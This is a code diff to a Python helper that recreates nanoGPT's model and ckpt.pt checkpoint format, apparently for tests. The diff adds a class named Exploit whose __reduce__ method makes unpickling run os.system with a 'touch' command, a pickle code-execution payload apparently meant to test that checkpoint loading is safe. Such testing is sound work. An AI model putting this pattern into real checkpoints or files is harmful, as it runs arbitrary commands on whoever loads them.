@@ -1,5 +1,7 @@
 """nanoGPT's model and its ckpt.pt, made without nanoGPT: names and shapes as in its model.py."""
 
+import os
+
 import torch
 import torch.nn.functional as F
 from torch import nn
@@ -7,6 +9,16 @@ from torch.utils.checkpoint import checkpoint
 
 ARGS = {"n_layer": 2, "n_head": 2, "n_embd": 16, "block_size": 8}
 ARGS |= {"bias": True, "vocab_size": 40, "dropout": 0.1}
+
+
+class Exploit:
+    """Unpickling this would make a file."""
+
+    def __init__(self, path):
+        self.path = path
+
+    def __reduce__(self):
+        return os.system, (f"touch {self.path}",)
 
 
 def weights(args=ARGS):
